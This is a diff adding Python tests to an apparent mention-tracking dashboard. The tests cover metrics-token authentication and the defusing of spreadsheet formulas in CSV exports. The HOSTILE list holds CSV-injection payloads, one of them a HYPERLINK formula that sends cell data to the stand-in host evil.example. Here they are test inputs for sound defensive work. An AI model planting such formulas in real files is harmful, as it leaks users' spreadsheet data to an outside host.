@@ -98,3 +98,90 @@ def test_a_burst_of_concurrent_guesses_is_counted_and_bounded(store, monkeypatch
     assert statuses.count(401) <= 5  # never more full checks than the sequential limit
     assert hasher.peak <= auth.MAX_CHECKS_PER_ACCOUNT
     assert hasher.calls == statuses.count(401)
+
+
+# --- 2. secrets are not settings -------------------------------------------------------------
+
+def test_the_metrics_token_set_before_start_is_a_secret_not_a_setting(
+        tmp_path, make_settings, monkeypatch, capsys) -> None:
+    """MENTIONDESK_METRICS_TOKEN (a registered secret) set in the environment before the
+    configuration is read: commands run, and /metrics wants the token."""
+    import main as entry
+    from config.loader import load
+
+    make_settings()
+    monkeypatch.setenv("MENTIONDESK_METRICS_TOKEN", "scrape-token")
+    monkeypatch.setenv("MENTIONDESK_SESSION_SECRET", SECRET)
+    settings = load(tmp_path / "config.toml")  # the real environment, token included
+    assert entry.main(["--config", str(tmp_path / "config.toml"), "db", "migrate"],
+                      ManualClock()) == 0, capsys.readouterr().err
+    from starlette.testclient import TestClient
+
+    from web.app import create_app
+
+    store = open_store(settings.app.database)
+    client = TestClient(create_app(store, settings, ManualClock(), SECRET))
+    assert client.get("/metrics").status_code == 401
+    assert client.get("/metrics", headers={"authorization": "Bearer é".encode()}).status_code == 401
+    assert client.get("/metrics", headers={"authorization": b"Bearer \xff\xfe"}
+                      ).status_code == 401
+    ok = client.get("/metrics", headers={"authorization": "Bearer scrape-token"})
+    assert ok.status_code == 200 and "mentiondesk_queue_depth" in ok.text
+    store.close()
+
+
+# --- 3. formulas in every CSV ----------------------------------------------------------------
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1+1)", "-2+3",
+           "@cmd", "\tTAB", "\rCR"]
+
+
+def test_the_one_csv_writer_defuses_formulas_and_keeps_numbers() -> None:
+    import csv
+    import io
+
+    from core import csvfile
+
+    text = csvfile.write(["handle", "net"], [[h, -0.25] for h in HOSTILE] + [["ok", None]])
+    rows = list(csv.reader(io.StringIO(text)))
+    assert [r[0] for r in rows[1:-1]] == ["'" + h for h in HOSTILE]
+    assert all(r[1] == "-0.25" for r in rows[1:-1]) and rows[-1] == ["ok", ""]
+
+
+def test_dashboard_exports_and_the_report_carry_no_formulas(store, tmp_path) -> None:
+    """Author handles that are formulas, out of /dashboard/authors.csv and every other
+    dashboard CSV, and out of `main.py report --format csv`."""
+    import csv
+    import io
+    from datetime import UTC, datetime
+
+    from starlette.testclient import TestClient
+
+    from metrics import report
+    from pipeline.jobs import refresh_metrics
+    from tests.metrics_support import seed
+    from web.app import create_app
+
+    now = datetime(2026, 11, 23, 18, 0, tzinfo=UTC)
+    for i, handle in enumerate(HOSTILE[:3]):
+        seed(store, datetime(2026, 11, 22, 10, i, tzinfo=UTC), handle=handle,
+             followers=1000 + i, brand="Acme")
+    refresh_metrics(store, now, 60)
+    users.add(store, "vera", "viewer", auth.hash_password(PASSWORD), now)
+    client = TestClient(create_app(store, _settings(), ManualClock(now), SECRET))
+    page = client.get("/login")
+    token = re.search(r'name="csrf-token" content="([^"]+)"', page.text).group(1)
+    assert client.post("/login", data={"csrf_token": token, "username": "vera",
+                                       "password": PASSWORD}).status_code in (200, 303)
+    query = "?since=2026-11-20&until=2026-11-23"
+    authors = client.get("/dashboard/authors.csv" + query)
+    assert authors.status_code == 200
+    cells = [c for row in csv.reader(io.StringIO(authors.text)) for c in row]
+    for handle in HOSTILE[:3]:
+        assert "'" + handle in cells and handle not in cells
+    for name in re.findall(r'href="/dashboard/(\w+)\.csv', client.get("/dashboard" + query
+                                                                      ).text):
+        for row in csv.reader(io.StringIO(client.get(f"/dashboard/{name}.csv{query}").text)):
+            assert not any(c[:1] in ("=", "+", "@") for c in row), (name, row)
+    exported = report.to_csv([{"period": "2026-11-22", "brand": "=1+1", "platform": "x"}])
+    assert "'=1+1" in exported
